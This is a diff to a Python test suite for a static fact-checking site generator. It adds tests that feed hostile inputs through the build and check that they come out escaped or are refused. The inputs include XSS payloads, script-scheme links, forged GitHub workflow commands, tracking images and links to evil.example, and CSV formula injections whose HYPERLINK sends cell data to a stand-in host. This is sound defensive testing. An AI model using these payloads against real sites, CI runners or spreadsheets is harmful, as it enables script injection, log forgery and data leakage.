@@ -6,6 +6,7 @@ import hashlib
 import html
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -54,6 +55,10 @@ OWASP_EVASIONS = [
 ]
 
 
+# An in-page link whose fragment, decoded, is a line break and a workflow command.
+FORGED_FRAGMENT = "#zz%0A::error%20file=README.md,line=1,title=FORGED::Forged"
+
+
 def hostile_markdown() -> str:
     """Every encoded scheme as inline, angle-bracket, reference and image links, then each evasion on its own."""
     lines = []
@@ -93,6 +98,8 @@ def hostile_project(project: Path) -> Path:
         f"[r]: vbscript:{CANARY}=14",
         "",
         "{{ config }} {% raw %} <style>body{display:none}</style>",
+        "",
+        f"[here]({FORGED_FRAGMENT}) [there](#%0D%0A%23%23[error]forged) [and](#::error::forged)",
         "",
         hostile_markdown(),
     ])
@@ -137,7 +144,8 @@ class _Audit(HTMLParser):
                     self.findings.append(f"<{tag} {name}={value!r}>")
         if tag == "script" and attributes.get("type") not in ("application/ld+json", "application/json"):  # data, not code
             if "src" in attributes:
-                if not (attributes["src"] or "").startswith(("../assets/", "assets/")):
+                # The site's own scripts: relative, or from its root path (the 404 page, served at any address).
+                if not re.match(r"(\.\./)*assets/|/[^/]", attributes["src"] or ""):
                     self.findings.append(f"<script src={attributes['src']!r}>")
             else:
                 self.inline = "script"
@@ -254,6 +262,223 @@ def test_two_builds_of_the_same_commit_are_byte_identical(tmp_path):
     assert different == []
 
 
+# --- site.yml: what the theme writes unescaped. ---
+
+HOSTILE_NAME = ("BT </title><script>alert(13)</script><img src=x onerror=alert(14)> \" autofocus onfocus=\"alert(15) "
+                "' onmouseover='alert(16) &lt;i&gt; &amp; Smith & Jones's " + " ".join(OWASP_EVASIONS))
+HOSTILE_IDENTITY = {
+    "name": HOSTILE_NAME,
+    "description": "<meta http-equiv=refresh content=0;url=javascript:alert(20)> \" onmouseover=\"alert(21) & more",
+    "branch": "main\"><script>alert(22)</script>",
+    "url": "https://checks.desk.test/\"><script>alert(23)</script>/",
+    "repository": "https://git.desk.test/desk/\"onmouseover=\"alert(24)\"><svg onload=alert(25)>",
+    "publisher": {"name": "<svg onload=alert(26)> Desk \" onmouseover=\"alert(27)", "url": "https://desk.test/\"><b>",
+                  "description": "<script>alert(28)</script>"},
+    "contact": {"email": "\"><script>alert(29)</script>@desk.test", "url": "javascript:alert(30)//\"><b>"},
+}
+
+
+def build_hostile_identity_site(folder: Path) -> tuple[Path, subprocess.CompletedProcess]:
+    """The project with every text and address of site.yml hostile, built as if validation had let them through
+    (the copy's schema drops its patterns): what the theme and the engine write must still be inert."""
+    import yaml
+
+    project = folder / "project"
+    shutil.copytree(ROOT, project, ignore=shutil.ignore_patterns(".venv", "site", ".site-*", ".git", "node_modules", "artifacts", "__pycache__"))
+    schema_path = project / "schemas/site.schema.json"
+    schema = json.loads(schema_path.read_text(encoding="utf-8"))
+    schema["$defs"] = {name: {"type": "string"} for name in schema["$defs"]}
+    schema["properties"]["branch"] = schema["properties"]["contact"]["properties"]["email"] = {"type": "string"}
+    schema_path.write_text(json.dumps(schema), encoding="utf-8")
+    identity = yaml.safe_load((project / "site.yml").read_text(encoding="utf-8"))
+    identity.update(HOSTILE_IDENTITY)
+    (project / "site.yml").write_text(yaml.safe_dump(identity, allow_unicode=True), encoding="utf-8")
+    site = project / "out"
+    return site, mkdocs_build(project, site)
+
+
+@pytest.fixture(scope="module")
+def hostile_identity_site(tmp_path_factory) -> Path:
+    site, result = build_hostile_identity_site(tmp_path_factory.mktemp("identity"))
+    assert result.returncode == 0, result.stderr
+    return site
+
+
+def test_markup_in_site_yml_stops_the_build_at_its_line(project_copy: Path, tmp_path: Path):
+    site_yml = project_copy / "site.yml"
+    text = site_yml.read_text(encoding="utf-8")
+    site_yml.write_text(re.sub(r"(?m)^name: .*$", lambda _: "name: " + json.dumps(HOSTILE_NAME), text), encoding="utf-8")
+    result = mkdocs_build(project_copy, tmp_path / "out")
+    assert result.returncode != 0 and not (tmp_path / "out").exists()
+    line = text[:text.index("\nname:") + 1].count("\n") + 1
+    assert f"site.yml:{line}:1: name: " in result.stderr and 'contains < > or ", which a page would read as markup' in result.stderr
+
+
+class _Reading(HTMLParser):
+    """What a reader and assistive technology get from a page: its title, the header's labels, the meta elements."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.title, self.in_title, self.labels, self.meta = "", False, [], {}
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        self.in_title = tag == "title" and not self.title  # the page's, not an image's
+        if "aria-label" in attributes and "md-logo" in (attributes.get("class") or ""):
+            self.labels.append(attributes["aria-label"])
+        if tag == "meta":
+            self.meta[attributes.get("property") or attributes.get("name")] = attributes.get("content")
+
+    def handle_data(self, data):
+        if self.in_title:
+            self.title += data
+
+    def handle_endtag(self, tag):
+        self.in_title = False
+
+
+def test_hostile_site_yml_values_are_inert_on_every_page(hostile_identity_site):
+    pages = sorted(hostile_identity_site.rglob("*.html"))
+    assert len(pages) > 10
+    for page in pages:
+        audit = _Audit()
+        audit.feed(page.read_text(encoding="utf-8"))
+        assert audit.findings == [], page.relative_to(hostile_identity_site)
+
+
+def test_hostile_site_yml_values_read_as_written_escaped_once(hostile_identity_site):
+    """Escaped, not mangled: the title, the logo's label and the link previews read as site.yml says."""
+    home = _Reading()
+    home.feed((hostile_identity_site / "index.html").read_text(encoding="utf-8"))
+    assert home.title == HOSTILE_NAME and home.labels == [HOSTILE_NAME, HOSTILE_NAME]
+    assert home.meta["og:site_name"] == HOSTILE_NAME
+    claim_page = next(hostile_identity_site.glob("claims/*.html"))
+    if claim_page.name == "index.html":
+        claim_page = sorted(hostile_identity_site.glob("claims/*.html"))[0]
+    claim = _Reading()
+    claim.feed(claim_page.read_text(encoding="utf-8"))
+    assert claim.title.endswith(" - " + HOSTILE_NAME) and claim.meta["og:site_name"] == HOSTILE_NAME
+    about = _Reading()
+    about.feed((hostile_identity_site / "about.html").read_text(encoding="utf-8"))
+    assert about.meta["description"] == HOSTILE_IDENTITY["description"]
+
+
+def test_hostile_site_yml_values_stay_data_in_the_feed_search_index_and_structured_data(hostile_identity_site):
+    from xml.etree import ElementTree
+
+    feed = ElementTree.parse(hostile_identity_site / "feed.xml").getroot()
+    assert feed.findtext("{http://www.w3.org/2005/Atom}title") == HOSTILE_NAME
+    index = json.loads((hostile_identity_site / "search/search_index.json").read_text(encoding="utf-8"))
+    for doc in index["docs"]:
+        for field in ("title", "text"):
+            audit = _Audit()
+            audit.feed(doc[field])
+            assert audit.findings == [], (doc["location"], field)
+    claim_page = sorted(p for p in hostile_identity_site.glob("claims/*.html") if p.name != "index.html")[0]
+    block = claim_page.read_text(encoding="utf-8").split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
+    assert "<" not in block and json.loads(block)["author"]["name"] == HOSTILE_IDENTITY["publisher"]["name"]
+    package = json.loads((hostile_identity_site / "datapackage.json").read_text(encoding="utf-8"))
+    assert package["title"] == HOSTILE_NAME
+
+
+def test_rendered_settings_for_other_generators_hold_no_markup(tmp_path):
+    """`factcheck render --settings` writes mkdocs.yml for a generator that runs no hook (Zensical writes
+    these settings unescaped too): inert, and readable where its theme escapes them again."""
+    import yaml
+
+    from factcheck.generation import settings_for
+    from factcheck.publishing import Publisher, SiteInfo
+
+    info = SiteInfo(HOSTILE_NAME, HOSTILE_IDENTITY["url"], Publisher("P"), HOSTILE_IDENTITY["repository"],
+                    description=HOSTILE_IDENTITY["description"])
+    text, _ = settings_for(ROOT / "mkdocs.yml", info, tmp_path / "docs", tmp_path)
+    settings = yaml.safe_load(text)
+    for key in ("site_name", "site_description", "site_url", "repo_url"):
+        assert not set(settings[key]) & set('<>"'), key
+    # Reads as the name (a reference already in it, "&lt;", reads as what it stands for); "&" and "'" are left
+    # as they are, so that a theme's own escaping shows none of them escaped twice.
+    assert html.unescape(settings["site_name"]) == html.unescape(HOSTILE_NAME)
+    assert "Smith & Jones's" in settings["site_name"]
+    assert not set(settings["repo_url"]) & set("'` ")
+
+
+# --- Hand-written pages (docs/): Markdown only. ---
+
+HOSTILE_PAGES_MD = [
+    ("<script>alert(1)</script>\n", 3, "raw HTML is not allowed"),
+    ("Text <img src=x onerror=alert(1)> more.\n", 3, "raw HTML is not allowed"),
+    ("Text <img/src=x onerror=alert(1)> (not a tag to CommonMark; a tag to others).\n", 3, "raw HTML is not allowed"),
+    ("<iframe src=\"https://evil.example/\"></iframe>\n", 3, "raw HTML is not allowed"),
+    ("[click](javascript:alert(1))\n", 3, "links to 'javascript:alert(1)'"),
+    ("[click](java&#115;cript:alert(1))\n", 3, "links to 'javascript:alert(1)'"),
+    ("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n", 3, "links to 'data:image/svg+xml"),
+    ("[r]\n\n[r]: vbscript:msgbox(1)\n", 3, "links to 'vbscript:msgbox(1)'"),
+    ("[x]( &#14;  javascript:alert(1))\n", 3, "holds a script address"),
+    ("<!-- factcheck:everything -->\n", 3, "is not a marker the engine knows"),
+    ("    <script>alert(1)</script>\n", 3, "markup in an indented code block"),
+]
+
+
+@pytest.mark.parametrize("markdown, line, message", HOSTILE_PAGES_MD)
+def test_a_hand_written_page_with_html_or_a_script_link_is_refused_at_its_line(repo: ScratchRepo, capsys, markdown, line, message):
+    repo.write("docs/index.md", "# Home\n\n" + markdown)
+    code, out, _ = _validate(repo, capsys)
+    assert code == 1
+    [problem] = [p for p in out.splitlines() if p.startswith("docs/")]
+    assert problem.startswith(f"docs/index.md:{line}:") and message in problem
+
+
+@pytest.mark.parametrize("field", ["title", "description"])
+def test_markup_in_a_hand_written_pages_metadata_is_refused(repo: ScratchRepo, capsys, field):
+    repo.write("docs/about.md", f"---\n{field}: 'Us\" onmouseover=\"alert(1)'\n---\n\n# About\n")
+    repo.write("docs/more.md", f"{field}: </title><script>alert(1)</script>\n\n# More\n")
+    code, out, _ = _validate(repo, capsys)
+    assert code == 1
+    assert f"docs/about.md:2:1: {field}: 'Us\" onmouseover=\"alert(1)' contains < > or \"" in out
+    assert f"docs/more.md:1:1: {field}: '</title><script>alert(1)</script>' contains < > or \"" in out
+
+
+@pytest.mark.parametrize("evasion", [e for e in OWASP_EVASIONS if "<" in e])
+def test_every_html_evasion_in_a_hand_written_page_is_refused(evasion):
+    from factcheck.hand_written import check_page
+
+    assert check_page(f"# Page\n\nText {evasion} text.\n\n{evasion}\n", "docs/x.md") != []
+
+
+@pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
+def test_every_encoded_script_address_in_a_hand_written_page_is_refused(scheme):
+    from factcheck.hand_written import check_page
+
+    # As a browser reads the address: references decoded (greedily, `;` or not), controls and spaces dropped.
+    address = re.sub(r"[\x00-\x20]", "", html.unescape(f"{scheme}alert(1)")).lower()
+    runs = address.startswith(("javascript:", "vbscript:", "data:"))
+    for markdown in (f"[y]({scheme}alert(1))", f"[y](<{scheme}alert(1)>)", f"![y]({scheme}alert(1))", f"[r]\n\n[r]: {scheme}alert(1)"):
+        assert check_page(f"# Page\n\n{markdown}\n", "docs/x.md") != [] or not runs, markdown
+    assert runs or scheme.startswith("&#x6A&#x61")  # every case but one (its "&#x3Aa" is "Ϊ", not ":") is a script
+
+
+def test_markdown_a_desk_writes_passes(repo: ScratchRepo):
+    from factcheck.hand_written import MARKERS, check_page, page_problems
+
+    page = ("---\ntitle: Methodology & sources\n---\n\n# How we check\n\n" + "\n\n".join(MARKERS) +
+            "\n\nSee [the claims](claims/index.md), [a section](#selection), [us](mailto:desk@desk.test) and "
+            "[a report](https://desk.test/a?b=1&c=2). Prices &lt; 5 € and 3 > 2, `<script>` as code.\n\n"
+            "```html\n<script>shown, not run</script>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
+    assert check_page(page, "docs/x.md") == []
+    assert page_problems(ROOT, ROOT / "docs") == []  # this desk's own pages
+
+
+def test_every_build_path_refuses_a_hand_written_page_with_script(project_copy: Path, tmp_path: Path):
+    (project_copy / "docs/evil.md").write_text("# Evil\n\n<script>alert(1)</script>\n", encoding="utf-8")
+    expected = "docs/evil.md:3:1: raw HTML is not allowed in a hand-written page; write it in Markdown"
+    result = mkdocs_build(project_copy, tmp_path / "site")
+    assert result.returncode != 0 and expected in result.stderr and not (tmp_path / "site").exists()
+    rendered = subprocess.run([sys.executable, "-m", "factcheck", "--root", str(project_copy), "render", "--out",
+                               str(tmp_path / "rendered")], capture_output=True, text=True,
+                              env={**os.environ, "PYTHONPATH": str(ROOT / "hooks")})
+    assert rendered.returncode == 1 and expected in rendered.stdout and not (tmp_path / "rendered").exists()
+
+
 # --- Outputs that other programs interpret: CI annotations, terminals, spreadsheets. ---
 
 def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str]:
@@ -265,7 +490,7 @@ def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str
 
 
 def test_github_annotations_escape_message_and_properties_as_github_specifies():
-    from factcheck.cli import github_annotation
+    from factcheck.workflow_commands import annotation as github_annotation
     from factcheck.problems import Problem
 
     problem = Problem("claims/a,b:c.yml", 3, 1, "x:y,z", "100% wrong\r\n::error file=README.md::forged")
@@ -285,6 +510,140 @@ def test_a_field_name_cannot_forge_an_annotation(repo: ScratchRepo, capsys):
         "the field name contains the control character U+000A at character 2; remove it (a field name is one line of plain words)"]
 
 
+# What the runner would take for a workflow command: a line starting, after white space, with `::` or `##[`.
+_COMMAND = re.compile(r"^\s*(::|##\[)")
+# The engine's own annotations, properties and message escaped (no raw `:` or `,` in a property).
+_ANNOTATION = re.compile(r"::(error|warning) file=[^:,\r\n]*,line=[0-9]+,col=[0-9]+,title=[^:,\r\n]*::[^\r\n]*")
+
+
+def _forged_commands(output: str) -> list[str]:
+    """Lines of `output` the runner would read as commands that are not the engine's annotations
+    (split as the runner splits: at CR, LF or CRLF)."""
+    return [line for line in re.split(r"\r\n|\r|\n", output) if _COMMAND.match(line) and not _ANNOTATION.fullmatch(line)]
+
+
+COMMAND_TEXTS = ["::error file=README.md,line=1,title=FORGED::Forged", "%0A::error::x", "a\n::error::x", "a\r::error::x",
+                 "a\r\n::warning::x", " \t::add-mask::x", "\u00a0::stop-commands::t", "##[error]x", "a\n ##[set-env name=A]b",
+                 "a::b::c", "::", "a\u2028::error::x", "\x1b[2K::error::x"]
+
+
+@pytest.mark.parametrize("text", COMMAND_TEXTS)
+def test_no_printed_line_reads_as_a_workflow_command(text):
+    from factcheck.workflow_commands import inert_line
+
+    line = inert_line(text)
+    assert _forged_commands(line) == [] and re.split(r"\r\n|\r|\n", line) == [line]
+
+
+def test_validate_for_github_prints_no_command_but_its_annotations(repo: ScratchRepo, capsys):
+    repo.source("s", "A text.")
+    repo.claim("c1", "s", "A text", 0, 6, summary="Fine\n::error file=README.md::forged", reviewer="")
+    for name in ("::error file=README.md::f", "%0A::error::f", "a\n::error::f", "a\r::warning::f", " ::error::f", "##[error]f"):
+        repo.write(f"claims/s/{name}.yml", "id: x\nsummary: \"\\n::error::forged\"\n")
+    code, out, err = _validate(repo, capsys, "--format", "github")
+    assert code == 1
+    assert _forged_commands(out + err) == []
+    annotations = [line for line in out.splitlines() if _ANNOTATION.fullmatch(line)]
+    # Every problem of every hostile file is one annotation on its own line.
+    assert len(annotations) == len(out.splitlines()) and sum("%0A%3A%3Aerror" in a or "%0D%3A%3Awarning" in a for a in annotations) >= 2
+
+
+def _links_site(folder: Path) -> Path:
+    """A built site whose pages link to fragments, pages and addresses that hold workflow commands,
+    and whose file names do too."""
+    site = folder / "site"
+    site.mkdir()
+    hrefs = [FORGED_FRAGMENT, "#%0D::error::x", "#::error::x", "#a%0D%0A##[error]x", "missing%0A::error::x.html",
+             "::error file=a::b.html", "index.html#%0A%20::warning::x", "#a\n::error::raw-lf", "#a\r::error::raw-cr"]
+    links = "".join(f'<a href="{html.escape(href)}">x</a>' for href in hrefs)
+    (site / "index.html").write_text(f"<html><body>{links}</body></html>", encoding="utf-8")
+    for name in ("::error file=README.md::forged", "%0A::error::x", "a\n::error::x", "a\r::error::x", " ::error::x", "##[error]x"):
+        (site / f"{name}.html").write_text(f'<a href="#{html.escape(name)}">x</a>', encoding="utf-8")
+    return site
+
+
+def test_the_link_check_prints_no_workflow_command(repo: ScratchRepo, tmp_path: Path, capsys):
+    from factcheck import cli
+
+    site = _links_site(tmp_path)
+    code = cli.main(["--root", str(repo.root), "links", "--site", str(site)])
+    captured = capsys.readouterr()
+    assert code == 1
+    assert _forged_commands(captured.out + captured.err) == []
+    # Each broken link is one line, naming what is broken.
+    lines = captured.out.splitlines()
+    assert len(lines) == 9 + 6 and any("no #zz\\n::error file=README.md" in line for line in lines)
+
+
+def test_a_forged_fragment_in_notes_reaches_the_ci_log_as_text(hostile_site, capsys):
+    from factcheck import cli
+
+    code = cli.main(["--root", str(hostile_site.parent), "links", "--site", str(hostile_site)])
+    captured = capsys.readouterr()
+    assert code == 1 and "no #zz\\n::error file=README.md,line=1,title=FORGED::Forged on that page" in captured.out
+    assert _forged_commands(captured.out + captured.err) == []
+
+
+# What a job summary must not render from content: HTML, images (a remote image tracks who reads), links,
+# mentions, issue references, formatting, tables, headings, maths.
+SUMMARY_PAYLOADS = ["<img src=x onerror=alert(1)>", "@everyone", "@desk/editors", "![](http://evil.example/pixel.png)",
+                    "[click](https://evil.example/)", "<https://evil.example/a>", "https://evil.example/b", "www.evil.example",
+                    "<script>alert(1)</script>", "<!-- hidden -->", "**bold** _em_ `code`", "| cell | cell |", "&lt;b&gt;",
+                    "#1234", "desk@evil.example", "\n\n# Heading\n\n- item", "$x^2$", "~~gone~~", "[x]: https://evil.example/",
+                    "\\*", "::error::forged"]
+
+
+def _git(root: Path, *args: str) -> None:
+    env = {**os.environ, "GIT_AUTHOR_NAME": "E", "GIT_AUTHOR_EMAIL": "e@example.org", "GIT_COMMITTER_NAME": "E",
+           "GIT_COMMITTER_EMAIL": "e@example.org"}
+    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, env=env)
+
+
+def _rendered(markdown: str) -> tuple[list[str], str]:
+    """The kinds of element the Markdown renders to, and its text as a reader sees it."""
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
+    kinds, text = [], []
+    for token in tokens:
+        for child in [token, *(token.children or [])]:
+            kinds.append(child.type)
+            if child.type in ("text", "code_inline"):
+                text.append(child.content)
+    return kinds, " ".join(text)
+
+
+def test_the_job_summary_of_changes_renders_content_as_text(repo: ScratchRepo, capsys):
+    from factcheck import cli
+
+    payload = " ".join(SUMMARY_PAYLOADS)
+    repo.source("s", "A text. Another text.")
+    repo.claim("changed", "s", "A text", 0, 6)
+    repo.claim("removed", "s", "Another text", 8, 20, claim=payload)
+    _git(repo.root, "init", "-q", "-b", "main")
+    _git(repo.root, "add", "-A")
+    _git(repo.root, "commit", "-q", "-m", "published")
+    (repo.root / "claims/s/removed.yml").unlink()
+    repo.claim("changed", "s", "A text", 0, 6, claim=payload, verdict="misleading",
+               corrections=[{"date": "2026-12-01", "change": payload, "reason": "New evidence."}])
+    repo.claim("added", "s", "Another text", 8, 20, claim=payload)
+    code = cli.main(["--root", str(repo.root), "diff", "HEAD"])
+    report = capsys.readouterr().out
+    assert code == 0
+    kinds, text = _rendered(report)
+    assert kinds.count("heading_open") == 5  # the report's own: its title, verdict changes, added, removed, edited
+    assert kinds.count("table_open") == 1 and kinds.count("tr_open") == 2  # the header row and the one change
+    assert [k for k in kinds if k in ("html_block", "html_inline", "image", "link_open", "em_open", "strong_open", "s_open")] == []
+    # Each payload reads as written (on one line), three times in the table and lists, four with the correction.
+    plain = text.replace("\u2060", "")
+    one_line = " ".join(payload.split())
+    assert plain.count(one_line) == 4
+    # GitHub links mentions, issue numbers and addresses in rendered text: none is left to link.
+    assert not re.search(r"@\w|#\d", text)
+    assert not re.search(r"(?<!\\)://|www\.", report)  # an address GitHub would link: a scheme's colon unescaped
+    assert _forged_commands(report) == []
+
+
 def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys):
     repo.source("s", "A text.")
     repo.claim("c1", "s", "A text", 0, 6)
@@ -294,8 +653,33 @@ def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys
     assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in out + err)
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start):
+# What may come before a formula: nothing, or white space a spreadsheet trims (OWASP: tab, carriage return,
+# line feed; also spaces, a no-break space, an ideographic space).
+FORMULA_LEADS = ["", " ", "   ", "\t", "\n", "\u00a0", "\u3000", " \t\n "]
+
+
+def _runs_as_formula(cell: str) -> bool:
+    return cell.lstrip().startswith(("=", "+", "-", "@"))
+
+
+def _unsafe_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run: read with "," as the data package declares (where, as OWASP says, no cell
+    may start with a tab or line break either), and read with ";" or tabs (other locales' separators) and line by
+    line (where a misread quote would start a row)."""
+    import csv
+    import io
+
+    unsafe = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
+              if _runs_as_formula(cell) or cell.startswith(("\t", "\r", "\n"))]
+    for delimiter in (";", "\t"):
+        unsafe += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
+                   if _runs_as_formula(cell)]
+    return unsafe + [line for line in text.splitlines() if _runs_as_formula(line)]
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS)
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start, lead):
     import csv
     import io
 
@@ -303,16 +687,35 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRep
     from factcheck.publishing import Publisher, SiteInfo
 
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    claim = f"{lead}{formula}"
+    summary = f'Fine;{lead}{formula}, then\t{lead}{formula} and\n{lead}{formula}"{lead}{formula}'
     repo.source("s", "A text.")
-    repo.claim("c1", "s", "A text", 0, 6, claim=formula.replace("\t", " ").replace("\r", " ") if start in "\t\r" else formula,
-               summary=formula if start not in "\t\r" else "Summary.")
+    repo.claim("c1", "s", "A text", 0, 6, claim=claim, summary=summary)
     model = build_site(load_repository(repo.root))
-    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"])))
-    for row in rows:
-        for column, value in row.items():
-            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
-    if start not in "\t\r":
-        assert rows[0]["claim"] == "'" + formula
+    text = export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"]
+    assert _unsafe_cells(text) == []
+    [row] = csv.DictReader(io.StringIO(text, newline=""))
+    # The text is kept, with quote marks where a formula would start.
+    assert row["claim"].replace("'", "") == claim and row["summary"].replace("'", "") == summary
+    if not lead:
+        assert row["claim"] == "'" + formula
+
+
+@pytest.mark.parametrize("value", ["\r=1+1", "\r\n@SUM(A1)", "\t-2", "\tplain", "\n+1", "\u2003+cmd", "\u00a0=1",
+                                   "a;=1", "a;\u00a0-1", "a\r\n+1", "a\t\t@x", "\x00=1"])
+def test_every_cell_a_spreadsheet_would_run_is_neutralised(value):
+    from factcheck.exports import spreadsheet_safe
+
+    safe = spreadsheet_safe(value)
+    assert _unsafe_cells('"' + safe.replace('"', '""') + '"') == []
+    assert safe != value and safe.replace("'", "") == value.replace("'", "")  # quote marks added, nothing else
+
+
+@pytest.mark.parametrize("value", ["a, -2 per cent", "e-mail @ desk", "x = y", "1+1", "'quoted'", "'=1", ""])
+def test_ordinary_text_in_a_csv_cell_is_left_alone(value):
+    from factcheck.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == value
 
 
 # --- Bounded work: no Markdown field can make a build crawl. ---
